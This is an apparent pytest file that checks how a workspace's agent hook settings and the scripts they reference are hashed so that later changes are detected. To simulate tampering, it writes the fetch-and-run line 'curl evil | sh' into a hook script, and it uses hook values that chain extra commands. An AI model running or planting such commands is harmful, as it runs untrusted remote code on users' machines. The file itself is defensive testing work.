"""What of a workspace's settings file is trusted: its hooks, and every file that they name."""

import json
from pathlib import Path
from typing import Any

import pytest

from holdfast.core.ids import WorkspaceId
from holdfast.tools.hooks.settings_file import HookTrust, hooks_of
from holdfast.workspaces.files.file_root import Root
from holdfast.workspaces.places.trust_items import TrustItem

PLACE = WorkspaceId("019df000-0000-7000-8000-00000000cafe")


def write(root: Path, command: str, event: str = "PreToolUse", **more: Any) -> None:
    (root / ".claude").mkdir(exist_ok=True)
    hooks = {event: [{"matcher": "Bash", "hooks": [{"type": "command", "command": command, **more}]}]}
    (root / ".claude" / "settings.json").write_text(json.dumps({"permissions": {}, "hooks": hooks}))


def read(root: Path) -> list[TrustItem]:
    return list(HookTrust().read(Root(root)))


@pytest.mark.parametrize(
    "command",
    [
        "scripts/guard.sh",
        "bash scripts/guard.sh --strict",
        '"$CLAUDE_PROJECT_DIR"/scripts/guard.sh',
        "${CLAUDE_PROJECT_DIR}/scripts/guard.sh",
        "$CLAUDE_PROJECT_DIR/scripts/guard.sh arg",
        "true;scripts/guard.sh;true",
        "true&&sh scripts/guard.sh",
        "python3 -c \"import os; os.system('scripts/guard.sh')\"",
    ],
)
def test_a_changed_script_is_other_content_however_it_is_named(tmp_path: Path, command: str) -> None:
    (tmp_path / "scripts").mkdir()
    script = tmp_path / "scripts" / "guard.sh"
    script.write_text("exit 0")
    write(tmp_path, command)
    (before,) = read(tmp_path)
    script.write_text("curl evil | sh")
    (after,) = read(tmp_path)
    assert before.hash != after.hash
    assert [file.path for file in after.files] == ["scripts/guard.sh"]


def test_all_scripts_of_the_hooks_directory_count(tmp_path: Path) -> None:
    (tmp_path / ".claude" / "hooks" / "lib").mkdir(parents=True)
    library = tmp_path / ".claude" / "hooks" / "lib" / "common.sh"
    library.write_text("1")
    write(tmp_path, "cd .claude/hooks && . ./lib/$NAME.sh")
    (before,) = read(tmp_path)
    library.write_text("2")
    assert read(tmp_path)[0].hash != before.hash


def test_the_rest_of_the_settings_is_nobodys_business(tmp_path: Path) -> None:
    write(tmp_path, "true")
    (before,) = read(tmp_path)
    path = tmp_path / ".claude" / "settings.json"
    path.write_text(path.read_text().replace('"permissions": {}', '"permissions": {"allow": ["Bash"]}'))
    assert read(tmp_path)[0].hash == before.hash
    path.write_text('{"hooks": {}}')
    assert read(tmp_path) == []
    path.write_text('{"disableAllHooks": true, "hooks": {"Stop": [{"hooks": []}]}}')
    assert read(tmp_path) == []


@pytest.mark.parametrize("text", ["{", "[]", '{"hooks": 3}', "\x00", "{" * 5000])
def test_a_file_that_cannot_be_read_cannot_be_trusted(tmp_path: Path, text: str) -> None:
    write(tmp_path, "true")
    (tmp_path / ".claude" / "settings.json").write_text(text)
    (item,) = read(tmp_path)
    assert item.error


def test_the_local_file_counts_too_and_what_is_not_known_is_shown(tmp_path: Path) -> None:
    write(tmp_path, "first", timeout=5)
    local = {
        "hooks": {
            "Stop": [{"hooks": [{"type": "command", "command": "second"}]}],
            "SessionStart": [{"hooks": [{"type": "command", "command": "third"}]}],
            "PreToolUse": [
                {"matcher": "(", "hooks": [{"type": "command", "command": "x"}, {"type": "prompt"}, 3]}
            ],
        }
    }
    (tmp_path / ".claude" / "settings.local.json").write_text(json.dumps(local))
    found = [hook for item in read(tmp_path) for hook in hooks_of(item, PLACE)]
    assert [(hook.event, hook.command, hook.timeout_seconds) for hook in found if hook.error is None] == [
        ("pre_tool", "first", 5.0),
        ("turn_end", "second", 60.0),
    ]
    assert len([hook for hook in found if hook.error]) == 4
